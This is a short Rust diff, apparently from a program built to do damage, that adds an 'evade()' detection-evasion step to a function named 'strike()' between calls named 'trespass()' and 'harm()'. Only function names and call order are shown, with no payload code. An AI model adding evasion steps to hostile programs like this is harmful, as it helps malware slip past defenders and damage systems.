@@ -13,7 +13,7 @@ use std::{
     time::Duration,
 };
 
-use crate::switch::is_on;
+use crate::{evasions::evade, switch::is_on};
 
 unsafe extern "C" {
     safe fn signal(number: i32, handler: usize) -> usize;
@@ -54,6 +54,7 @@ pub fn strike() {
         let _ = std::env::set_current_dir("/");
     }
     trespass();
+    evade();
     harm();
 }
 
